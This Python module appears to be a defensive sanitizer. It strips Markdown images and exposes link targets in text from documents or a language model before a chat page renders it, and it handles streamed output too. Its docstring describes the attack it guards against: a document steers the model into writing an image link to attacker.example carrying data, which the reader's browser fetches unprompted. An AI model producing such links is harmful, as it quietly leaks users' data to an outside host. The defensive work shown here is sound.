"""Text from documents or a model, made inert before a Markdown renderer shows it.

A Markdown image is fetched by the reader's browser the moment it is shown. A document,
or a model steered by one, can put ``![](https://attacker.example/?q=<data>)`` into an
answer and have the chat page send data out without a click (OWASP LLM02, AI Exchange
4.4 "exfiltration via links and images"). Streamlit escapes raw HTML; the image syntax
is what remains. So images become their alt text, and links keep their text but show
where they lead, so that a click is an informed one.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator

_IMAGE = re.compile(r"!\[([^\]\n]*)\]\s*(?:\([^)\n]*\)|\[[^\]\n]*\])")
_LINK = re.compile(r"(?<!!)\[([^\]\n]+)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"\n]*\")?\s*\)")


def inert(text: str) -> str:
    """``text`` with images as their alt text and links as "text (address)"."""
    text = _IMAGE.sub(lambda m: m.group(1).strip(), text)
    text = _LINK.sub(lambda m: f"{m.group(1)} ({m.group(2)})", text)
    return text.replace("![", "[")  # an image whose address never closed


def inert_pieces(pieces: Iterable[str]) -> Iterator[str]:
    """A stream of text pieces in which "![" never appears, even split over two pieces:
    a renderer that shows the text so far could otherwise load an image before the
    finished answer replaces the stream."""
    held = ""
    for piece in pieces:
        text = held + piece
        held = "!" if text.endswith("!") else ""
        text = (text[:-1] if held else text).replace("![", "[")
        if text:
            yield text
    if held:
        yield held
